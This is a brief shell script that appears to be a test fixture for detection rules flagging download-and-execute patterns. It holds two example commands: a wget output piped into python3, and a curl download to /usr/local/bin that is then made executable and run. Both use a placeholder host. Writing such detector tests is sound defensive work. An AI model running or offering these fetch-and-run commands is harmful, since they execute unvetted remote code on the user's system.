#!/bin/sh
# ruleid: yara.download_exec.curl_pipe_shell
wget -qO- https://example.com/get.py | python3 - --quiet

# ruleid: yara.download_exec.fetch_chmod_run
curl -sLo /usr/local/bin/helper https://example.com/helper
chmod 755 /usr/local/bin/helper
/usr/local/bin/helper start
